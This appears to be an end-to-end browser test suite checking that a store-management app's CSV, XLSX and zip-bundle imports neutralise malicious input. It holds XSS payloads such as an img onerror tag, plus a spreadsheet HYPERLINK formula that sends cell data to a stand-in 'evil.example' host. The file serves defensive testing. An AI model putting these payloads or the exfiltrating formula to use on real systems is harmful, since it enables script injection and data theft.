/**
 * Issue 7, end to end in Chromium: a handful of the bad files from the unit corpora go through
 * the real screens (store import, Exchange import). For each: a clear message is shown, nothing
 * is rendered as HTML (no injected element exists, no script ran, no dialog opened), and the
 * database, read with the raw IndexedDB API, is unchanged by a refused or previewed file.
 */
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { loadExcel } from '../helpers/exceljs'
import { openSession, removeProfile, screenshot, type Session } from './support/browser'
import {
  dump,
  expectInert,
  exportedBundle,
  IMG,
  loadDemoSettled,
  SCRIPT,
  SVG,
} from './support/malformed'

const HEADER = '营业厅编码,营业厅名称,省份,地市,等级,类型'
const csvCell = (s: string) => (/[",\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s)

describe('malformed files through the screens', () => {
  let s: Session
  const dialogs: string[] = []

  beforeAll(async () => {
    s = await openSession()
    s.page.on('dialog', (d) => {
      dialogs.push(`${d.type()}: ${d.message()}`)
      void d.dismiss()
    })
    await loadDemoSettled(s.page)
  })
  afterAll(async () => {
    await s.close()
    removeProfile(s.profileDir)
  })

  it('store CSV with <img onerror> and <script> in names: previewed as text, nothing runs, nothing written', async () => {
    const { page } = s
    const before = await dump(page)
    const rows = [
      ['XSS001', IMG, '江苏', '南京', '1', '自营厅'],
      ['XSS002', SCRIPT, '江苏', '南京', '2', '自营厅'],
      ['XSS003', SVG, '江苏', '苏州', '3', '社会合作厅'],
    ]
    const csv = [HEADER, ...rows.map((r) => r.map(csvCell).join(','))].join('\n')
    await page.goto('/stores/import')
    await page.getByTestId('import-file').setInputFiles({
      name: 'xss.csv',
      mimeType: 'text/csv',
      buffer: Buffer.from(csv),
    })
    await page.getByTestId('import-report').waitFor()
    // Valid stores with odd names: cleaned, not refused; the names appear as literal text.
    await page.getByTestId('import-ok').waitFor()
    const preview = await page.getByTestId('import-preview').innerText()
    for (const name of [IMG, SCRIPT, SVG]) expect(preview).toContain(name)
    await expectInert(page, dialogs)
    expect(await dump(page)).toBe(before)
    await screenshot(page, 'malformed-xss-preview')

    // Imported, the names are shown as text on the list and on the store's page too.
    await page.getByTestId('import-button').click()
    await page.getByTestId('import-success').waitFor()
    await page.goto('/stores')
    await page.getByTestId('store-search').fill('XSS00')
    await expect.poll(() => page.getByTestId('store-row').count()).toBe(3)
    expect(await page.getByTestId('store-row').locator('.name').allInnerTexts()).toEqual(
      expect.arrayContaining([IMG, SCRIPT, SVG]),
    )
    await page.goto('/stores/XSS001')
    await page.getByTestId('store-title').waitFor()
    expect(await page.getByTestId('store-title').innerText()).toContain(IMG)
    await expectInert(page, dialogs)
  })

  it('formula-cell XLSX: the formulas are replaced by their values with a warning, none is kept', async () => {
    const { page } = s
    const before = await dump(page)
    const ExcelJS = await loadExcel()
    const wb = new ExcelJS.Workbook()
    const ws = wb.addWorksheet('营业厅')
    ws.addRow(HEADER.split(','))
    ws.addRow([
      'FX001',
      { formula: 'HYPERLINK("http://evil.example/?"&A1,"公式厅")', result: '公式厅' },
      '江苏',
      '南京',
      1,
      '自营厅',
    ])
    ws.addRow([
      'FX002',
      { formula: 'CONCAT("<img src=x ","onerror=alert(1)>")', result: IMG },
      '江苏',
      '南京',
      2,
      '自营厅',
    ])
    await page.goto('/stores/import')
    await page.getByTestId('import-file').setInputFiles({
      name: 'formulas.xlsx',
      mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      buffer: Buffer.from(await wb.xlsx.writeBuffer()),
    })
    await page.getByTestId('import-report').waitFor()
    await page.getByTestId('import-report').locator('.warnings summary').click()
    const report = await page.getByTestId('import-report').innerText()
    expect(report).toContain('公式已替换为其计算结果')
    const preview = await page.getByTestId('import-preview').innerText()
    expect(preview).toContain('公式厅')
    expect(preview).toContain(IMG)
    expect(preview).not.toContain('HYPERLINK')
    await expectInert(page, dialogs)
    expect(await dump(page)).toBe(before)
  })

  it('a store file that is binary junk is refused with a message, nothing written', async () => {
    const { page } = s
    const before = await dump(page)
    await page.goto('/stores/import')
    const junk = Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 7919) % 256))
    await page
      .getByTestId('import-file')
      .setInputFiles({ name: 'stores.xlsx', mimeType: 'application/octet-stream', buffer: junk })
    await page.getByTestId('import-problems-title').waitFor()
    expect(
      (await page.getByTestId('import-problem').first().innerText()).trim().length,
    ).toBeGreaterThan(5)
    expect(await page.getByTestId('import-button').isDisabled()).toBe(true)
    expect(await dump(page)).toBe(before)
  })

  it('tampered, non-zip and markup-named bundles are refused with their own message; database unchanged', async () => {
    const { page } = s
    const good = await exportedBundle(page)
    const files = unzipSync(good)
    const stores = JSON.parse(strFromU8(files['stores.json']!)) as { name: string }[]
    stores[0]!.name = IMG
    const tampered = zipSync({ ...files, 'stores.json': strToU8(JSON.stringify(stores)) })
    const extra = zipSync({ ...files, [`${IMG}.html`]: strToU8(SCRIPT) })
    const cases: [string, Uint8Array, string, RegExp][] = [
      ['tampered.zip', tampered, 'tampered', /stores\.json/],
      ['not-a-zip.zip', strToU8(`<html>${SCRIPT}${IMG}</html>`), 'not-zip', /zip/],
      ['empty.zip', new Uint8Array(0), 'not-zip', /zip/],
      ['extra.zip', extra, 'unexpected-part', /onerror/],
      ['cut.zip', good.subarray(0, Math.floor(good.length / 2)), 'truncated', /截断/],
    ]
    await page.goto('/exchange')
    const before = await dump(page)
    for (const [name, bytes, code, text] of cases) {
      await page.reload()
      await page
        .getByTestId('import-file')
        .setInputFiles({ name, mimeType: 'application/zip', buffer: Buffer.from(bytes) })
      const err = page.getByTestId('bundle-error')
      await err.waitFor({ timeout: 60_000 })
      expect(await err.getAttribute('data-code'), name).toBe(code)
      const message = await err.innerText()
      expect(message, name).toMatch(text)
      // The markup in the part name is shown as text inside the message.
      if (code === 'unexpected-part') expect(message).toContain(`${IMG}.html`)
      expect(await page.getByTestId('import-preview').count(), name).toBe(0)
      await expectInert(page, dialogs)
    }
    await screenshot(page, 'malformed-bundle-extra')
    expect(await dump(page)).toBe(before)
  })
})
